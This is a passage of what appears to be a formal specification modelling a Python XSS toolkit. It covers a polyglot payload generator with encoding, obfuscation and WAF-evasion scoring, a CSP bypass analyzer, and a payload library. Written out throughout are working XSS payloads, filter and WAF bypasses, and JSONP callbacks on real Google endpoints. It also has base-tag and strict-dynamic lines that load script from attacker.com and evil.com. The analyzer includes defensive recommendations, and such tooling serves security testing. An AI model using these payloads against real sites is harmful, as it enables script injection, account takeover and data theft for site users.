            replaced(content, alert,
                     <<BACKTICK>> \o Chars("ale${\"rt\"}") \o <<BACKTICK>>)
       [] obfuscation = "math_ops" -> replaced(content, Chars("1"), Chars("(1+0)"))
       [] obfuscation = "constructor_chain" ->
            replaced(content, alert, Chars("[].constructor.constructor(\"alert\")"))
       [] OTHER -> content

\* The chain loop of _generate_encoded_polyglots and of
\* _generate_obfuscated_polyglots: a technique is kept while its output fits
\* max_length, and the first output that does not fit ends the chain.
RECURSIVE apply_chain_unbounded(_, _, _, _, _, _, _)
apply_chain_unbounded(encoding, content, used, chain, i, max_length, tape) ==
  IF i > Len(chain) THEN [content |-> content, used |-> used]
  ELSE apply_chain_unbounded(encoding,
                             IF encoding THEN apply_encoding(content, chain[i], tape)
                             ELSE apply_obfuscation(content, chain[i], tape),
                             Append(used, chain[i]), chain, i + 1, max_length, tape)
RECURSIVE apply_chain(_, _, _, _, _, _, _)
apply_chain(encoding, content, used, chain, i, max_length, tape) ==
  IF i > Len(chain) THEN [content |-> content, used |-> used]
  ELSE LET next(new_content) ==
             IF Len(new_content) <= max_length
               THEN apply_chain(encoding, new_content, Append(used, chain[i]), chain, i + 1,
                                max_length, tape)
               ELSE [content |-> content, used |-> used]
       IN next(IF encoding THEN apply_encoding(content, chain[i], tape)
               ELSE apply_obfuscation(content, chain[i], tape))

\* _generate_encoded_polyglots
generate_encoded_polyglots(base_polyglots, max_length, tape) ==
  Flatten([b \in DOMAIN base_polyglots |->
    Flatten([c \in DOMAIN encoding_chains |->
      LET base_payload == base_polyglots[b]
          kept(encoded) ==
            IF encoded.used # <<>> /\ encoded.content # base_payload.payload
              THEN <<NewPolyglot(encoded.content, base_payload.contexts, encoded.used, <<>>,
                                 base_payload.components)>>
              ELSE <<>>
      IN kept(apply_chain(TRUE, base_payload.payload, <<>>, encoding_chains[c], 1,
                          max_length, tape))])])

\* _generate_obfuscated_polyglots
generate_obfuscated_polyglots(base_polyglots, max_length, tape) ==
  Flatten([b \in DOMAIN base_polyglots |->
    Flatten([c \in DOMAIN Prefix(obfuscation_chains, 3) |->
      LET base_payload == base_polyglots[b]
          kept(obfuscated) ==
            IF obfuscated.used # <<>> /\ obfuscated.content # base_payload.payload
              THEN <<NewPolyglot(obfuscated.content, base_payload.contexts,
                                 base_payload.encodings_used, obfuscated.used,
                                 base_payload.components)>>
              ELSE <<>>
      IN kept(apply_chain(FALSE, base_payload.payload, <<>>, obfuscation_chains[c], 1,
                          max_length, tape))])])

\* browser_modifications, as the (prefix, suffix) pairs zip() makes of them
browser_modifications ==
  [chrome |-> << <<Chars("<details open ontoggle="), Chars(">")>> >>,
   firefox |-> << <<Chars("<xul:script>"), Chars("</xul:script>")>>,
                  <<Chars("<browser onload="), Chars(">")>> >>,
   safari |-> << <<Chars("<webkit>"), Chars("</webkit>")>>,
                 <<Chars("<video autoplay oncanplay="), Chars(">")>> >>,
   ie |-> << <<Chars("<xml>"), Chars("</xml>")>>,
             <<Chars("<object data=\"javascript:"), Chars("\">")>> >>]

\* _generate_browser_specific_polyglots
generate_browser_specific_polyglots(base_polyglots, target_browsers, max_length) ==
  Flatten([b \in DOMAIN Prefix(base_polyglots, 3) |->
    Flatten([t \in DOMAIN target_browsers |->
      IF target_browsers[t] \in DOMAIN browser_modifications
        THEN LET mods == browser_modifications[target_browsers[t]]
                 base_payload == base_polyglots[b]
             IN Flatten([m \in DOMAIN mods |->
                  LET modified_payload == mods[m][1] \o base_payload.payload \o mods[m][2]
                  IN IF Len(modified_payload) <= max_length
                       THEN <<[NewPolyglot(modified_payload, base_payload.contexts,
                                           base_payload.encodings_used,
                                           base_payload.obfuscations_used,
                                           base_payload.components)
                                 EXCEPT !.browser_compatibility =
                                          [x \in {target_browsers[t]} |-> (9 * Scale) \div 10]]>>
                       ELSE <<>>])
        ELSE <<>>])])

\* _calculate_confidence, in units of 1/Scale; the quotients are exact for
\* up to six target contexts and up to three components
calculate_confidence(payload, target_contexts) ==
  LET covered_contexts == payload.contexts \cap target_contexts
      coverage == IF target_contexts # {}
                    THEN (Cardinality(covered_contexts) * 3 * Scale)
                           \div (Cardinality(target_contexts) * 10)
                    ELSE 0
      total_priority == SumSeq([k \in DOMAIN payload.components |->
                                  payload.components[k].priority])
      priority == IF payload.components # <<>>
                    THEN (total_priority * 2 * Scale) \div (Len(payload.components) * 100)
                    ELSE 0
      length == IF payload.length < 100 THEN Scale \div 10
                ELSE IF payload.length > 300 THEN -(Scale \div 10) ELSE 0
  IN Clamp(0, Scale \div 2 + coverage + priority + length
                - Len(payload.encodings_used) * (Scale \div 20)
                + Len(payload.obfuscations_used) * ((3 * Scale) \div 100),
           Scale)

\* _calculate_browser_compatibility
calculate_browser_compatibility(payload) ==
  [browser \in {"chrome", "firefox", "safari", "ie", "edge"} |->
     Clamp(0,
           (7 * Scale) \div 10
             + (IF Contains(payload.payload, Chars("<script>")) THEN Scale \div 5 ELSE 0)
             + (IF Contains(payload.payload, Chars("onerror=")) THEN (15 * Scale) \div 100 ELSE 0)
             + (IF Contains(payload.payload, Chars("javascript:"))
                  THEN (IF browser = "ie" THEN Scale \div 10 ELSE -(Scale \div 20))
                  ELSE 0)
             + (IF ContainsAny(payload.payload,
                               <<Chars("<details>"), Chars("<video>"), Chars("<audio>")>>)
                  THEN (IF browser \in {"chrome", "firefox", "safari"} THEN Scale \div 10
                        ELSE IF browser = "ie" THEN -(Scale \div 5) ELSE 0)
                  ELSE 0)
             + (IF Contains(payload.payload, Chars("{{")) THEN Scale \div 20 ELSE 0),
           Scale)]

\* _calculate_waf_evasion_score; no character is both upper and lower case
calculate_waf_evasion_score(payload) ==
  LET signature_penalties ==
        Cardinality({k \in DOMAIN engine_waf_signatures :
                       Contains(lower(payload.payload), lower(engine_waf_signatures[k]))})
  IN Clamp(0,
           Scale \div 2 - signature_penalties * (Scale \div 10)
             + Len(payload.encodings_used) * (Scale \div 10)
             + Len(payload.obfuscations_used) * ((15 * Scale) \div 100)
             + (IF \/ Contains(payload.payload, Chars("<!--"))
                   \/ Contains(payload.payload, Chars("/*")) THEN Scale \div 10 ELSE 0)
             + (IF \E i \in DOMAIN payload.payload :
                     /\ payload.payload[i] \in AlphaChars
                     /\ payload.payload[i] \in Range(UpperAlpha)
                     /\ payload.payload[i] \in Range(LowerAlpha)
                  THEN Scale \div 20 ELSE 0),
           Scale)

\* _calculate_complexity_score, on its scale of 0 to 10
calculate_complexity_score(payload) ==
  Min(10 * Scale,
      Min((payload.length * Scale) \div 100, 3 * Scale)
        + Len(payload.components) * (Scale \div 2)
        + Len(payload.encodings_used) * ((8 * Scale) \div 10)
        + Len(payload.obfuscations_used) * Scale
        + Cardinality(payload.contexts) * ((3 * Scale) \div 10))

\* generate_polyglots up to the scoring loop: every candidate, scored
scored_polyglots(target_contexts, max_length, include_obfuscation, target_browsers, tape) ==
  LET extended(basic_polyglots) ==
        basic_polyglots
          \o generate_encoded_polyglots(basic_polyglots, max_length, tape)
          \o (IF include_obfuscation
                THEN generate_obfuscated_polyglots(basic_polyglots, max_length, tape)
                ELSE <<>>)
          \o (IF target_browsers # <<>>
                THEN generate_browser_specific_polyglots(basic_polyglots, target_browsers,
                                                         max_length)
                ELSE <<>>)
      scored(payload) ==
        [payload EXCEPT
           !.confidence = calculate_confidence(payload, target_contexts),
           !.browser_compatibility = calculate_browser_compatibility(payload),
           !.waf_evasion_score = calculate_waf_evasion_score(payload),
           !.complexity_score = calculate_complexity_score(payload)]
      each(payloads) == [k \in DOMAIN payloads |-> scored(payloads[k])]
  IN each(extended(generate_basic_polyglots(target_contexts, max_length, tape)))

top_polyglots_unsorted(payloads, max_payloads) == Prefix(payloads, max_payloads)
\* generate_polyglots from the sort on: payloads.sort(...)[:max_payloads]
top_polyglots(payloads, max_payloads) ==
  Prefix(SortedDesc(payloads, [k \in DOMAIN payloads |-> payloads[k].confidence]),
         max_payloads)

(***************************************************************************)
(* csp/bypass_analyzer.py: CSPBypassAnalyzer                               *)
(***************************************************************************)
\* s.split(sep) for a one-character sep: empty pieces are kept
RECURSIVE split(_, _)
split(s, sep) ==
  IF \A i \in DOMAIN s : s[i] # sep THEN <<s>>
  ELSE LET k == CHOOSE i \in DOMAIN s : s[i] = sep /\ \A j \in 1..(i - 1) : s[j] # sep
       IN <<SubSeq(s, 1, k - 1)>> \o split(SubSeq(s, k + 1, Len(s)), sep)
\* s.strip()
strip(s) ==
  LET kept == {i \in DOMAIN s : s[i] \notin SpaceChars}
  IN IF kept = {} THEN <<>>
     ELSE SubSeq(s, CHOOSE i \in kept : \A j \in kept : i <= j,
                    CHOOSE i \in kept : \A j \in kept : j <= i)
\* s.split(): the maximal runs of non-whitespace characters, in order
split_whitespace(s) ==
  LET starts == {i \in DOMAIN s : s[i] \notin SpaceChars /\ (i = 1 \/ s[i - 1] \in SpaceChars)}
      nth(k) == CHOOSE i \in starts : Cardinality({j \in starts : j < i}) = k - 1
      stop(i) == CHOOSE j \in i..Len(s) : /\ \A k \in i..j : s[k] \notin SpaceChars
                                          /\ (j = Len(s) \/ s[j + 1] \in SpaceChars)
  IN [k \in 1..Cardinality(starts) |-> SubSeq(s, nth(k), stop(nth(k)))]

\* the values of the enumerations CSPDirective and CSPKeyword
CSPDirective ==
  {Chars(name) : name \in
     {"script-src", "object-src", "style-src", "img-src", "media-src", "font-src",
      "connect-src", "child-src", "frame-src", "worker-src", "manifest-src",
      "prefetch-src", "navigate-to", "form-action", "frame-ancestors", "base-uri",
      "plugin-types", "sandbox", "report-uri", "report-to", "default-src",
      "upgrade-insecure-requests", "block-all-mixed-content", "require-sri-for"}}
SCRIPT_SRC == Chars("script-src")
DEFAULT_SRC == Chars("default-src")
UNSAFE_INLINE == Chars("'unsafe-inline'")
UNSAFE_EVAL == Chars("'unsafe-eval'")
CSPKeyword ==
  {Chars("'self'"), UNSAFE_INLINE, UNSAFE_EVAL, Chars("'unsafe-hashes'"),
   Chars("'strict-dynamic'"), Chars("'none'"), Chars("'report-sample'")}

common_whitelist_domains ==
  {Chars(domain) : domain \in
     {"googleapis.com", "google.com", "gstatic.com", "ajax.googleapis.com",
      "cdnjs.cloudflare.com", "code.jquery.com", "maxcdn.bootstrapcdn.com", "unpkg.com",
      "cdn.jsdelivr.net", "raw.githubusercontent.com", "github.io", "netlify.app",
      "herokuapp.com", "firebaseapp.com"}}

is_directive_restrictive(keywords, sources) ==
  IF keywords \cap {UNSAFE_INLINE, UNSAFE_EVAL, Chars("'unsafe-hashes'")} # {} THEN FALSE
  ELSE IF <<"*">> \in sources THEN FALSE
  ELSE IF \E source \in sources : HasAt(source, Chars("data:"), 1) THEN FALSE
  ELSE IF Chars("'none'") \in keywords THEN TRUE
  ELSE IF Chars("'self'") \in keywords /\ Cardinality(sources) <= 2 THEN TRUE
  ELSE Cardinality(sources) <= 3

calculate_directive_risk(keywords, sources) ==
  IF UNSAFE_INLINE \in keywords \/ UNSAFE_EVAL \in keywords THEN "critical"
  ELSE IF <<"*">> \in sources \/ Cardinality(sources) > 5 THEN "high"
  ELSE IF \E source \in sources : HasAt(source, Chars("data:"), 1) THEN "medium"
  ELSE IF \E source \in sources : \E domain \in common_whitelist_domains :
            Contains(source, domain) THEN "medium"
  ELSE "low"

\* source.startswith("'") and source.endswith("'")
Quoted(source) == source # <<>> /\ source[1] = "'" /\ source[Len(source)] = "'"

\* the body of the loop of _parse_csp_header over the directive strings: the
\* configuration built from the tokens that follow the directive name
DirectiveConfig(directive, source_list) ==
  LET config(keywords, sources, nonces, hashes) ==
        [directive |-> directive, sources |-> sources, keywords |-> keywords,
         nonces |-> nonces, hashes |-> hashes,
         is_restrictive |-> is_directive_restrictive(keywords, sources),
         bypass_risk |-> calculate_directive_risk(keywords, sources)]
      unknown(tokens) == {source \in tokens : Quoted(source) /\ source \notin CSPKeyword}
      nonce(source) == HasAt(source, Chars("'nonce-"), 1)
      parsed(tokens) ==
        config({source \in tokens : Quoted(source) /\ source \in CSPKeyword},
               {source \in tokens : ~Quoted(source)},
               {SubSeq(source, 8, Len(source) - 1) :
                  source \in {s \in unknown(tokens) : nonce(s)}},
               {SubSeq(source, 2, Len(source) - 1) :
                  source \in {s \in unknown(tokens) :
                                ~nonce(s) /\ HasAt(s, Chars("'sha"), 1)}})
  IN parsed(Range(source_list))

\* _parse_csp_header: a later directive string of the same name replaces the
\* configuration of an earlier one
parse_csp_header(csp_header) ==
  LET stripped(pieces) == [i \in DOMAIN pieces |-> strip(pieces[i])]
      nonempty(d) == d # <<>>
      parts(directive_strings) ==
        [i \in DOMAIN directive_strings |-> split_whitespace(directive_strings[i])]
      directive_name(p) == lower(p[1])
      built(ps) ==
        LET matching == {i \in DOMAIN ps : directive_name(ps[i]) \in CSPDirective}
            last(name) == CHOOSE i \in matching :
                            /\ directive_name(ps[i]) = name
                            /\ \A j \in matching : directive_name(ps[j]) = name => j <= i
        IN [name \in {directive_name(ps[i]) : i \in matching} |->
              DirectiveConfig(name, Tail(ps[last(name)]))]
  IN built(parts(SelectSeq(stripped(split(csp_header, ";")), nonempty)))

\* directives.get(SCRIPT_SRC) or directives.get(DEFAULT_SRC): the set holding
\* that configuration, empty when neither directive is present
ScriptDirective(directives) ==
  IF SCRIPT_SRC \in DOMAIN directives THEN {directives[SCRIPT_SRC]}
  ELSE IF DEFAULT_SRC \in DOMAIN directives THEN {directives[DEFAULT_SRC]}
  ELSE {}

CSPBypassPayload(technique, payload, confidence) ==
  [technique |-> technique, payload |-> payload, confidence |-> confidence]

\* the bypass that reads script-src alone, without the default-src fallback
generate_unsafe_inline_bypass_script_src_only(directives) ==
  IF SCRIPT_SRC \in DOMAIN directives /\ UNSAFE_INLINE \in directives[SCRIPT_SRC].keywords
  THEN <<CSPBypassPayload("UNSAFE_INLINE",
                          "<script>alert(\"CSP Bypass - Unsafe Inline\")</script>",
                          (95 * Scale) \div 100),
         CSPBypassPayload("UNSAFE_INLINE",
                          "<img src=x onerror=\"alert('CSP Bypass - Event Handler')\">",
                          (9 * Scale) \div 10)>>
  ELSE <<>>

generate_unsafe_inline_bypass(directives) ==
  IF \E script_directive \in ScriptDirective(directives) :
       UNSAFE_INLINE \in script_directive.keywords
  THEN <<CSPBypassPayload("UNSAFE_INLINE",
                          "<script>alert(\"CSP Bypass - Unsafe Inline\")</script>",
                          (95 * Scale) \div 100),
         CSPBypassPayload("UNSAFE_INLINE",
                          "<img src=x onerror=\"alert('CSP Bypass - Event Handler')\">",
                          (9 * Scale) \div 10)>>
  ELSE <<>>

\* the generators of self.bypass_generators after UNSAFE_INLINE, in the order
\* analyze_csp walks the BypassTechnique enumeration (REACT_INJECTION, BLOB_URI,
\* JAVASCRIPT_URI and the techniques after STRICT_DYNAMIC_ABUSE up to
\* FORM_ACTION_BYPASS have no generator)
generate_other_bypasses(directives) ==
  LET script == ScriptDirective(directives)
      keyword(k) == \E d \in script : k \in d.keywords
      listed(domain) == \E d \in script : \E source \in d.sources :
                          Contains(source, Chars(domain))
      frame == IF Chars("frame-src") \in DOMAIN directives THEN {directives[Chars("frame-src")]}
               ELSE IF Chars("child-src") \in DOMAIN directives
                      THEN {directives[Chars("child-src")]}
               ELSE IF DEFAULT_SRC \in DOMAIN directives THEN {directives[DEFAULT_SRC]}
               ELSE {}
      data(ds) == \E d \in ds : \E source \in d.sources : Contains(source, Chars("data:"))
      when(cond, bypasses) == IF cond THEN bypasses ELSE <<>>
      B(technique, payload, hundredths) ==
        CSPBypassPayload(technique, payload, (hundredths * Scale) \div 100)
  IN when(keyword(UNSAFE_EVAL),
          <<B("UNSAFE_EVAL", "<script>eval(\"alert(\\\"CSP Bypass - Eval\\\")\")</script>", 90),
            B("UNSAFE_EVAL",
              "<script>Function(\"alert(\\\"CSP Bypass - Function Constructor\\\")\")()</script>",
              85)>>)
     \o when(listed("googleapis.com"),
             <<B("JSONP_CALLBACK",
                 "<script src=\"https://accounts.google.com/o/oauth2/revoke?callback=alert\"></script>",
                 80)>>)
     \o when(listed("google.com"),
             <<B("JSONP_CALLBACK",
                 "<script src=\"https://www.google.com/complete/search?client=chrome&jsonp=alert\"></script>",
                 80)>>)
     \o when(listed("gstatic.com"),
             <<B("JSONP_CALLBACK",
                 "<script src=\"https://cse.google.com/api/cx/016652522511468994752:1y-bg_ij9_a/cse/suggest?callback=alert\"></script>",
                 80)>>)
     \o when(keyword(UNSAFE_EVAL),
             <<B("ANGULAR_INJECTION", "{{constructor.constructor(\"alert(1)\")()}}", 70),
               B("ANGULAR_INJECTION", "{{$new.constructor(\"alert(1)\")()}}", 70),
               B("ANGULAR_INJECTION", "{{[].constructor.constructor(\"alert(1)\")()}}", 70),
               B("VUE_INJECTION", "{{constructor.constructor(\"alert(1)\")()}}", 65),
               B("VUE_INJECTION", "{{$root.constructor.constructor(\"alert(1)\")()}}", 65)>>)
     \o when(\E d \in script : d.sources # {},
             <<B("SCRIPT_GADGET",
                 "<div id=\"1\" data-url=\"javascript:alert('Script Gadget')\"></div>", 40),
               B("SCRIPT_GADGET",
                 "<input id=\"gadget\" value=\"alert('Script Gadget')\" onfocus=\"eval(this.value)\">",
                 40)>>)
     \o when(Chars("base-uri") \notin DOMAIN directives
               \/ UNSAFE_INLINE \in directives[Chars("base-uri")].keywords,
             <<B("BASE_URI_INJECTION",
                 "<base href=\"//attacker.com/\"><script src=\"malicious.js\"></script>", 60)>>)
     \o <<B("LOCATION_HASH",
            "<script>eval(location.hash.slice(1))</script>#alert(\"Hash Bypass\")", 50)>>
     \o when(data(frame),
             <<B("IFRAME_SRCDOC",
                 "<iframe srcdoc=\"<script>parent.alert('Iframe Srcdoc Bypass')</script>\"></iframe>",
                 70)>>)
     \o when(data(script),
             <<B("DATA_URI",
                 "<script src=\"data:text/javascript;base64,YWxlcnQoJ0RhdGEgVVJJIEJ5cGFzcycp\"></script>",
                 85)>>)
     \o when(listed("github.io"),
             <<B("WHITELISTED_DOMAIN",
                 "<script src=\"https://username.github.io/repo/xss.js\"></script>", 60)>>)
     \o when(listed("herokuapp.com"),
             <<B("WHITELISTED_DOMAIN",
                 "<script src=\"https://evil-app.herokuapp.com/xss.js\"></script>", 60)>>)
     \o when(listed("netlify.app"),
             <<B("WHITELISTED_DOMAIN",
                 "<script src=\"https://evil-site.netlify.app/xss.js\"></script>", 60)>>)
     \o when(listed("raw.githubusercontent.com"),
             <<B("WHITELISTED_DOMAIN",
                 "<script src=\"https://raw.githubusercontent.com/user/repo/master/xss.js\"></script>",
                 60)>>)
     \o when(keyword(Chars("'strict-dynamic'")),
             <<B("STRICT_DYNAMIC_ABUSE",
                 "<script nonce=\"TRUSTED_NONCE\">document.createElement(\"script\").src=\"//evil.com/xss.js\"</script>",
                 50)>>)
     \o when(Chars("navigate-to") \notin DOMAIN directives,
             <<B("META_REFRESH",
                 "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('Meta Refresh Bypass')\">",
                 30)>>)

\* b.confidence > 0.7
HighConfidence(bypasses) ==
  {i \in DOMAIN bypasses : bypasses[i].confidence > (7 * Scale) \div 10}

\* _calculate_security_score, in units of 1/Scale
calculate_security_score(directives, bypasses) ==
  LET penalty(d) ==
        (IF UNSAFE_INLINE \in d.keywords THEN 3 * Scale ELSE 0)
        + (IF UNSAFE_EVAL \in d.keywords THEN (5 * Scale) \div 2 ELSE 0)
        + (IF <<"*">> \in d.sources THEN 2 * Scale ELSE 0)
        + (IF \E source \in d.sources : Contains(source, Chars("data:"))
             THEN (3 * Scale) \div 2 ELSE 0)
      names == DOMAIN directives
      RECURSIVE penalties(_)
      penalties(ns) == IF ns = {} THEN 0
                       ELSE LET n == CHOOSE n \in ns : TRUE
                            IN penalty(directives[n]) + penalties(ns \ {n})
  IN Clamp(0, 5 * Scale - penalties(names)
                - Cardinality(HighConfidence(bypasses)) * (Scale \div 2)
                + Cardinality({n \in names : directives[n].is_restrictive})
                    * ((3 * Scale) \div 10),
           10 * Scale)

\* _identify_critical_issues
identify_critical_issues(directives) ==
  LET script == ScriptDirective(directives)
      when(cond, issue) == IF cond THEN <<issue>> ELSE <<>>
  IN when(\E d \in script : UNSAFE_INLINE \in d.keywords,
          "'unsafe-inline' allows arbitrary inline script execution")
     \o when(\E d \in script : UNSAFE_EVAL \in d.keywords,
             "'unsafe-eval' allows eval() and Function() constructor usage")
     \o when(\E d \in script : <<"*">> \in d.sources,
             "Wildcard (*) in script-src allows scripts from any domain")
     \o when(SCRIPT_SRC \notin DOMAIN directives /\ DEFAULT_SRC \notin DOMAIN directives,
             "No script-src or default-src directive found")
     \o when(Chars("object-src") \notin DOMAIN directives,
             "Missing object-src directive allows plugin execution")

\* _generate_recommendations
generate_recommendations(directives, bypasses) ==
  LET script == ScriptDirective(directives)
      when(cond, recommendation) == IF cond THEN <<Chars(recommendation)>> ELSE <<>>
      fix(n) == IF n > 0
                  THEN <<Chars("Fix ") \o Decimal(n)
                           \o Chars(" high-confidence bypass opportunities")>>
                  ELSE <<>>
  IN when(\E d \in script : UNSAFE_INLINE \in d.keywords,
          "Remove 'unsafe-inline' and use nonces or hashes for inline scripts")
     \o when(\E d \in script : UNSAFE_EVAL \in d.keywords,
             "Remove 'unsafe-eval' and avoid eval(), setTimeout(string), etc.")
     \o when(\E d \in script : <<"*">> \in d.sources,
             "Replace wildcard (*) with specific trusted domains")
     \o when(Chars("object-src") \notin DOMAIN directives,
             "Add 'object-src 'none'' to prevent plugin execution")
     \o when(Chars("base-uri") \notin DOMAIN directives,
             "Add 'base-uri 'self'' to prevent base tag injection")
     \o when(Chars("form-action") \notin DOMAIN directives,
             "Add 'form-action 'self'' to restrict form submission URLs")
     \o fix(Cardinality(HighConfidence(bypasses)))

\* _create_bypass_summary
create_bypass_summary(bypasses) ==
  LET medium == {i \in DOMAIN bypasses :
                   /\ (4 * Scale) \div 10 <= bypasses[i].confidence
                   /\ bypasses[i].confidence <= (7 * Scale) \div 10}
      low == {i \in DOMAIN bypasses : bypasses[i].confidence < (4 * Scale) \div 10}
      summary(high) ==
        Chars("Found ") \o Decimal(Len(bypasses)) \o Chars(" potential bypasses: ")
          \o Decimal(high) \o Chars(" high-confidence, ")
          \o Decimal(Cardinality(medium)) \o Chars(" medium-confidence, ")
          \o Decimal(Cardinality(low)) \o Chars(" low-confidence")
          \o (IF high > 0 THEN Chars(". CSP is likely bypassable.")
              ELSE IF medium # {}
                     THEN Chars(". CSP may be bypassable under certain conditions.")
              ELSE Chars(". CSP appears relatively secure."))
  IN IF bypasses = <<>> THEN Chars("No bypass opportunities identified")
     ELSE summary(Cardinality(HighConfidence(bypasses)))

\* analyze_csp
analyze_csp(csp_header) ==
  LET result(directives, bypass_opportunities) ==
        [policy_header |-> csp_header,
         directives |-> directives,
         bypass_opportunities |-> bypass_opportunities,
         security_score |-> calculate_security_score(directives, bypass_opportunities),
         critical_issues |-> identify_critical_issues(directives),
         recommendations |-> generate_recommendations(directives, bypass_opportunities),
         is_bypassable |-> Cardinality(HighConfidence(bypass_opportunities)) > 0,
         bypass_summary |-> create_bypass_summary(bypass_opportunities)]
      analysed(directives) ==
        result(directives,
               generate_unsafe_inline_bypass(directives)
                 \o generate_other_bypasses(directives))
  IN analysed(parse_csp_header(csp_header))

(***************************************************************************)
(* payloads/payload_library.py: PayloadLibrary                             *)
(*                                                                         *)
(* An XSSPayload object is named by its place in self.payloads, the pair   *)
(* of its category and its position in the category's list: the indices    *)
(* and the returned lists hold these references.                           *)
(***************************************************************************)
\* the values of the enumeration PayloadCategory, in the order of self.payloads
PayloadCategory ==
  <<"basic", "bypass", "polyglot", "advanced", "obfuscated", "filter_evasion", "waf_bypass">>

\* self.payloads as __init__ builds it from the _load_*_payloads methods;
\* the payload text is a character sequence, success_rate is in units of 1/Scale
LoadPayloads ==
  [basic |->
     <<[payload |-> Chars("<script>alert(\"XSS\")</script>"),
        category |-> "basic",
        description |-> "Classic script tag injection - the foundation of XSS",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<>>,
        success_rate |-> (80 * Scale) \div 100,
        source |-> "OWASP",
        tags |-> <<"classic", "education", "script_tag">>,
        severity |-> "high",
        notes |-> "Most basic and recognizable XSS payload"],
       [payload |-> Chars("<img src=x onerror=alert(\"XSS\")>"),
        category |-> "basic",
        description |-> "Image tag with onerror event - highly reliable",
        contexts |-> <<"html_content", "attribute_value">>,
        bypass_techniques |-> <<>>,
        success_rate |-> (90 * Scale) \div 100,
        source |-> "Common",
        tags |-> <<"image", "event_handler", "reliable">>,
        severity |-> "high",
        notes |-> "Works even when script tags are filtered"],
       [payload |-> Chars("<svg onload=alert(\"XSS\")>"),
        category |-> "basic",
        description |-> "SVG tag with onload event - HTML5 vector",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<>>,
        success_rate |-> (85 * Scale) \div 100,
        source |-> "HTML5",
        tags |-> <<"svg", "html5", "onload">>,
        severity |-> "high",
        notes |-> "HTML5-specific vector, may bypass legacy filters"],
       [payload |-> Chars("javascript:alert(\"XSS\")"),
        category |-> "basic",
        description |-> "JavaScript protocol injection",
        contexts |-> <<"url_parameter", "attribute_value">>,
        bypass_techniques |-> <<"protocol_confusion">>,
        success_rate |-> (70 * Scale) \div 100,
        source |-> "Classic",
        tags |-> <<"protocol", "url", "href">>,
        severity |-> "medium",
        notes |-> "Useful in href attributes and URL contexts"],
       [payload |-> Chars("\" onclick=alert(\"XSS\") \""),
        category |-> "basic",
        description |-> "Attribute breaking with event handler",
        contexts |-> <<"attribute_value">>,
        bypass_techniques |-> <<"attribute_breaking">>,
        success_rate |-> (75 * Scale) \div 100,
        source |-> "Attribute injection",
        tags |-> <<"attribute", "event", "breaking">>,
        severity |-> "high",
        notes |-> "Breaks out of attribute values to inject events"],
       [payload |-> Chars("<iframe src=\"javascript:alert(") \o <<BACKTICK>> \o Chars("XSS") \o <<BACKTICK>> \o Chars(")\">"),
        category |-> "basic",
        description |-> "Iframe with JavaScript protocol",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"protocol_confusion">>,
        success_rate |-> (60 * Scale) \div 100,
        source |-> "Frame injection",
        tags |-> <<"iframe", "protocol", "template_literal">>,
        severity |-> "high",
        notes |-> "Uses template literals for quote evasion"],
       [payload |-> Chars("<body onload=alert(\"XSS\")>"),
        category |-> "basic",
        description |-> "Body tag with onload event",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<>>,
        success_rate |-> (50 * Scale) \div 100,
        source |-> "HTML injection",
        tags |-> <<"body", "onload", "page_load">>,
        severity |-> "medium",
        notes |-> "Executes when page loads, may require full HTML context"]>>,
   bypass |->
     <<[payload |-> Chars("<ScRiPt>alert(\"XSS\")</ScRiPt>"),
        category |-> "bypass",
        description |-> "Case variation to bypass case-sensitive filters",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"case_variation">>,
        success_rate |-> (60 * Scale) \div 100,
        source |-> "WAF bypass",
        tags |-> <<"case_variation", "simple_bypass">>,
        severity |-> "high",
        notes |-> "Effective against basic regex filters"],
       [payload |-> Chars("<script>alert(String.fromCharCode(88,83,83))</script>"),
        category |-> "bypass",
        description |-> "Character code encoding to hide string content",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"encoding", "obfuscation">>,
        success_rate |-> (70 * Scale) \div 100,
        source |-> "Encoding bypass",
        tags |-> <<"encoding", "fromCharCode", "obfuscation">>,
        severity |-> "high",
        notes |-> "Hides the actual string from static analysis"],
       [payload |-> Chars("<img src=x onerror=\"alert") \o <<BACKTICK>> \o Chars("XSS") \o <<BACKTICK>> \o Chars("\">"),
        category |-> "bypass",
        description |-> "Template literals to bypass quote filters",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"template_literals", "quote_bypass">>,
        success_rate |-> (65 * Scale) \div 100,
        source |-> "ES6 bypass",
        tags |-> <<"template_literal", "es6", "quote_evasion">>,
        severity |-> "high",
        notes |-> "Uses ES6 template literals instead of quotes"],
       [payload |-> Chars("<svg/onload=alert(\"XSS\")>"),
        category |-> "bypass",
        description |-> "Self-closing tag to bypass space filters",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"whitespace_abuse", "tag_structure">>,
        success_rate |-> (80 * Scale) \div 100,
        source |-> "Whitespace bypass",
        tags |-> <<"svg", "self_closing", "space_evasion">>,
        severity |-> "high",
        notes |-> "No space between tag and attribute"],
       [payload |-> Chars("<img src=x onerror=eval(atob(\"YWxlcnQoJ1hTUycpOw==\"))>"),
        category |-> "bypass",
        description |-> "Base64 encoding with eval and atob",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"encoding", "obfuscation", "base64">>,
        success_rate |-> (55 * Scale) \div 100,
        source |-> "Complex bypass",
        tags |-> <<"base64", "eval", "atob">>,
        severity |-> "high",
        notes |-> "Base64 encoded: alert('XSS');"],
       [payload |-> Chars("<svg><script>alert&#40;1&#41;</script>"),
        category |-> "bypass",
        description |-> "HTML entity encoding for parentheses",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"encoded_chars", "html_entities">>,
        success_rate |-> (60 * Scale) \div 100,
        source |-> "Entity bypass",
        tags |-> <<"html_entities", "parentheses", "svg">>,
        severity |-> "high",
        notes |-> "Encodes ( and ) as HTML entities"],
       [payload |-> Chars("<iframe srcdoc=\"<script>alert(") \o <<BACKTICK>> \o Chars("XSS") \o <<BACKTICK>> \o Chars(")</script>\">"),
        category |-> "bypass",
        description |-> "Iframe srcdoc attribute with inline HTML",
        contexts |-> <<"html_content">>,
        bypass_techniques |-> <<"iframe_srcdoc", "nested_context">>,
        success_rate |-> (40 * Scale) \div 100,
        source |-> "HTML5 bypass",
        tags |-> <<"iframe", "srcdoc", "nested">>,
        severity |-> "high",
        notes |-> "Creates nested HTML context within iframe"]>>,
   polyglot |->
